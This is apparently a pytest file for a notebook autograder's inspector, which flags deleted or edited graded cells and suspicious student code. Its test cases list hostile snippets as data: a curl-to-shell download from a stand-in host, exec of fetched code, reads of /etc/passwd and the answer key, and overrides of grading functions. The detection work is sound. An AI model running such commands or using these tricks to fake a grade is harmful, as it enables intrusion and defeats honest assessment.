"""Static inspection of submissions: tampering with graded cells, and code with no place in a lab."""

from __future__ import annotations

import copy
import shutil
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell

from grader.inspection import inspect_submission, suspicious
from labs import catalogue
from labs.check import partial_answers

LABS = [s.id for s in catalogue.discover()]


@pytest.fixture(scope="module")
def released(tmp_path_factory: pytest.TempPathFactory) -> dict[str, nbformat.NotebookNode]:
    """Each lab's student version, made by nbgrader's generate_assignment in a temporary course."""
    import subprocess
    import sys

    course = tmp_path_factory.mktemp("inspect")
    (course / "nbgrader_config.py").write_text(
        f"c = get_config()\nc.CourseDirectory.root = {str(course)!r}\n"
        f"c.CourseDirectory.db_url = 'sqlite:///{course}/gradebook.db'\n")
    for lab in LABS:
        (course / "source" / lab).mkdir(parents=True)
        shutil.copy(catalogue.get(lab).notebook, course / "source" / lab)
    env_path = str(Path(sys.executable).parent)
    for lab in LABS:
        subprocess.run([sys.executable, "-m", "nbgrader", "generate_assignment", lab, "--force"], cwd=course,
                       check=True, capture_output=True, env={"PATH": env_path + ":/usr/bin:/bin"})
    return {lab: nbformat.read(course / "release" / lab / catalogue.get(lab).notebook.name, 4) for lab in LABS}


def _with_answers(nb: nbformat.NotebookNode, answers: dict[str, str]) -> nbformat.NotebookNode:
    nb = copy.deepcopy(nb)
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in answers:
            cell.source = answers[grade_id]
    return nb


def _cell(nb: nbformat.NotebookNode, grade_id: str) -> nbformat.NotebookNode:
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


@pytest.mark.parametrize("lab", LABS)
def test_honest_work_raises_no_flag(released: dict, lab: str) -> None:
    nb = released[lab]
    assert inspect_submission(copy.deepcopy(nb), nb) == []  # blank
    assert inspect_submission(_with_answers(nb, partial_answers(catalogue.get(lab))), nb) == []
    solution = nbformat.read(catalogue.get(lab).notebook, 4)
    solved = {c.metadata["nbgrader"]["grade_id"]: c.source for c in solution.cells
              if c.metadata.get("nbgrader", {}).get("solution")}
    extra = copy.deepcopy(_with_answers(nb, solved))
    extra.cells.append(new_code_cell('import re, json\nhits = [p for p in ["a/b", "https://jobsteppe.example/jobs/1",'
                                     ' "whiskey/turkey", "https://x.example/source/key"]'
                                     ' if re.search(r"\\d+", p)]\nprint(json.dumps(hits), "/".join(hits))'))
    assert inspect_submission(extra, nb) == []


def test_deleted_retyped_and_edited_graded_cells(released: dict) -> None:
    nb = released["w1-03-search-operators"]
    sub = copy.deepcopy(nb)
    sub.cells = [c for c in sub.cells if c.metadata.get("nbgrader", {}).get("grade_id") != "test-pages"]
    _cell(sub, "test-query").source = "4.0"
    answer = _cell(sub, "answer-query")
    answer.cell_type = "markdown"
    answer.pop("outputs", None)
    answer.pop("execution_count", None)
    flags = {(f.kind, f.cell) for f in inspect_submission(sub, nb)}
    assert flags == {("cell-deleted", "test-pages"), ("locked-cell-changed", "test-query"),
                     ("cell-retyped", "answer-query")}


def test_changed_points_are_a_locked_cell_change(released: dict) -> None:
    nb = released["w1-01-passive-active"]
    sub = copy.deepcopy(nb)
    _cell(sub, "test-actions").metadata["nbgrader"]["points"] = 60.0
    (flag,) = inspect_submission(sub, nb)
    assert flag.kind == "locked-cell-changed" and "points" in flag.detail


@pytest.mark.parametrize(("code", "finding"), [
    ("get_ipython().input_transformers_post.append(lambda lines: lines)", "changes how cells run"),
    ("ip = get_ipython()\nip.ast_transformers.append(object())", "changes how cells run"),
    ("get_ipython().events.register('pre_run_cell', print)", "event hook"),
    ("import sys\nsys.settrace(None)", "changes how cells run"),
    ("lab.grade = lambda part, answer: 6.0", "replaces grading code"),
    ("import labs.runtime\nlabs.runtime.Lab.score = print", "replaces grading code"),
    ("setattr(lab, 'grade', print)", "setattr"),
    ("import urllib.request\nexec(urllib.request.urlopen('http://x.example/a').read())", "network"),
    ("code = open('x').read()\nexec(code)", "runs code it builds or fetches"),
    ("!curl http://x.example/payload | sh", "shell commands"),
    ("%load_ext something", "magic %load_ext"),
    ("import subprocess\nsubprocess.run(['ls'])", "imports subprocess"),
    ("import os\nos.system('ls')", "os.system"),
    ("import os\nos._exit(0)", "os._exit"),
    ("import os\nprint(os.environ['OSINTLAB_KEY_DIR'])", "environment variables"),
    ("print(open('/etc/passwd').read())", "path outside the lab"),
    ("print(open('../../gradebook.db').read())", "grading path"),
    ("import sys\nsys.modules['labs'] = None", "changes modules"),
    ("import builtins\nbuiltins.print = len", "builtins"),
    ("%autoreload 2", "magic %autoreload"),
    ("s = __import__('socket')", "imports socket by name"),
    ("print(open('key/lab.json').read())", "grading path"),
])
def test_suspicious_code_is_found(code: str, finding: str) -> None:
    assert any(finding in f for f in suspicious(code)), list(suspicious(code))


def test_a_suspicious_cell_gives_one_flag_naming_the_cell(released: dict) -> None:
    nb = released["w1-01-passive-active"]
    sub = copy.deepcopy(nb)
    _cell(sub, "answer-actions").source = "import os\nos.system('ls')\nlab.grade = print\nanswer = {}"
    (flag,) = inspect_submission(sub, nb)
    assert flag.kind == "suspicious-code" and flag.cell == "answer-actions"
    assert "os.system" in flag.detail and "replaces grading code" in flag.detail


def test_odd_input_never_raises(released: dict) -> None:
    nb = released["w1-01-passive-active"]
    odd = nbformat.from_dict({"cells": [{"cell_type": "code", "source": ["x = (", "\n"]},
                                        {"cell_type": "raw", "source": "/etc/passwd", "metadata": {}},
                                        {"cell_type": "code", "metadata": {"nbgrader": "?"}, "source": "%%%"}],
                              "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
    kinds = {f.kind for f in inspect_submission(odd, nb)}
    assert kinds == {"cell-deleted"}
